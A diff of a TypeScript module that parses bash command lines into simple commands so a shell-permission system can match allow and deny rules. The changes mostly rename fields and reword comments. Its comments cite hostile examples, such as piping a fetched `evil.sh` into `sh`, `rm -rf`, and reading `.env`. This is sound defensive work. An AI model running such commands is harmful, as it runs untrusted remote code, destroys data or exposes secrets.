@@ -1,8 +1,8 @@
 /**
- * What a bash command line really runs. A rule like `Bash(npm test *)` must not approve
- * `npm test && curl evil.sh | sh`, and `Bash(rm *)` in deny must see the rm in
- * `ls a#b; { /bin/rm -rf x; }`. So before matching we parse the line with a real bash
- * grammar (tree-sitter-bash, see bash-parser.ts) and collect every *simple command* in the
+ * What a bash command line really runs. A permission rule like `Bash(npm test *)` must not
+ * approve `npm test && curl evil.sh | sh`, and one against `rm` must see the rm in
+ * `ls a#b; { /bin/rm -rf x; }`. So we parse the line with a real bash grammar
+ * (tree-sitter-bash, see parser.ts) and collect every *simple command* in the
  * syntax tree — in pipelines and lists, `( )` and `{ }`, if/while/for/case bodies,
  * functions, `!`, substitutions, and the scripts of nested shells:
  *
@@ -11,15 +11,15 @@
  *   core: npm test            core: echo a && b
  *
  * Each simple command keeps its words, its *core* (the words after wrappers like
- * `timeout 60` and `FOO=1` prefixes, which is what allow rules match), the core with the
- * program by its name alone (`/bin/rm` is rm: what deny rules and the refuse-list also
- * see), the files it writes through redirections — and, when we cannot account for all it
- * does, why it is *opaque*: no allow rule and no mode short of bypassPermissions may approve
- * it. Opaque is the default for anything not understood: a line bash would not parse, a
- * program name that is a `$VAR`, `eval`, a `$(...)`, a node type this file does not model.
+ * `timeout 60` and `FOO=1` prefixes: what really runs), the core with the program by its name
+ * alone (`/bin/rm` is rm), the files it writes and reads through redirections — and, when we
+ * cannot account for all it does, why it is *opaque*. Opaque is the default for anything not
+ * understood: a line bash would not parse, a program name that is a `$VAR`, `eval`, a `$(...)`,
+ * a node type this file does not model. What to do with an opaque command is the caller's
+ * business (s03: no rule may approve it), but never to take it for harmless.
  */
-import { withSyntaxTree, type SyntaxNode } from "./bash-parser.ts";
-import { SUBSTITUTIONS, wordOf, type BashWord } from "./bash-words.ts";
+import { withSyntaxTree, type SyntaxNode } from "./parser.ts";
+import { SUBSTITUTIONS, wordOf, type BashWord } from "./words.ts";
 import { innerCommandsOf } from "./inner-commands.ts";
 import { programName, stripWrappers } from "./wrappers.ts";
 
@@ -34,10 +34,10 @@ export interface ShellCommand {
   writes: string[];
   /** Files it reads through `<` and `<>`: `cat < .env` reads .env as surely as `cat .env`. */
   reads: string[];
-  /** Why no allow rule may approve it: we cannot account in advance for all it runs. */
+  /** Why we cannot account in advance for all it runs (a `$(...)`, `eval`, `bash -c`, a `$CMD`...). */
   opaque?: string;
-  /** Why no allow rule may approve it, though all it runs is seen (`find . -delete`). */
-  unapprovable?: string;
+  /** Why what it acts on is unknown in advance, though all it runs is seen: `find . -delete`. */
+  actsOnUnnamed?: string;
 }
 
 /** Nodes that only hold other statements (or words, scanned for substitutions). */
@@ -64,7 +64,7 @@ const MAX_NESTING = 8;
 
 /**
  * Parse a command line into its simple commands, in order; commands hidden inside
- * substitutions and nested shells come along too (marked opaque), so deny rules see them.
+ * substitutions and nested shells come along too (marked opaque): every program that may run is listed.
  */
 export function parseCommandLine(line: string): ShellCommand[] {
   return analyse(line, 0);
@@ -120,7 +120,7 @@ class CommandWalker {
     for (const s of word.substitutions) this.substitution(s);
   }
 
-  /** `$(...)`, backticks, `<(...)`: the commands inside run, and nobody approved them. */
+  /** `$(...)`, backticks, `<(...)`: the commands inside run too, unseen by whoever reads the command around them. */
   private substitution(node: SyntaxNode): void {
     const why = node.type === "process_substitution" ? "it runs inside a <(...) or >(...) substitution" : "it runs inside a $(...) or backtick substitution";
     this.children(node, why);
@@ -217,7 +217,7 @@ class CommandWalker {
       tooDeep ? "it nests shells too deeply to follow" : inner?.opaque,
     );
     if (why) command.opaque ??= why;
-    if (inner?.unapprovable) command.unapprovable = inner.unapprovable;
+    if (inner?.actsOnUnnamed) command.actsOnUnnamed = inner.actsOnUnnamed;
     this.add(command, hidden);
     for (const s of [...redirections.substitutions, ...substitutions]) this.substitution(s);
     if (inner?.script !== undefined && !tooDeep) this.commands.push(...markOpaque(analyse(inner.script, this.depth + 1), "it runs inside a nested shell"));
@@ -233,7 +233,7 @@ class CommandWalker {
 /**
  * The words after wrappers. `time { rm x; }` and `coproc { ...; }` are bash grammar the
  * parser does not know: it reads `{` as a program. We step over such keywords (and the
- * wrappers after them) so that deny rules still see `rm x`, and say the line was misread.
+ * wrappers after them) so that `rm x` is still seen, and say the line was misread.
  */
 function coreOf(words: BashWord[]): { core: BashWord[]; misread?: string } {
   let core = words;
@@ -330,8 +330,8 @@ function findNode(node: SyntaxNode, test: (n: SyntaxNode) => boolean): SyntaxNod
 }
 
 /**
- * For a line bash cannot parse, a rough split on operators and keywords, so deny rules and
- * the refuse-list still see likely commands (all opaque: this is a guess, never approved).
+ * For a line bash cannot parse, a rough split on operators and keywords, so its likely
+ * commands are still seen (s03's deny rules and refuse-list look at them); all opaque: a guess.
  */
 function roughCommands(line: string): ShellCommand[] {
   const keywords = /^(?:if|then|else|elif|fi|do|done|while|until|for|case|esac|in|!|\{|\}|time|function)$/;
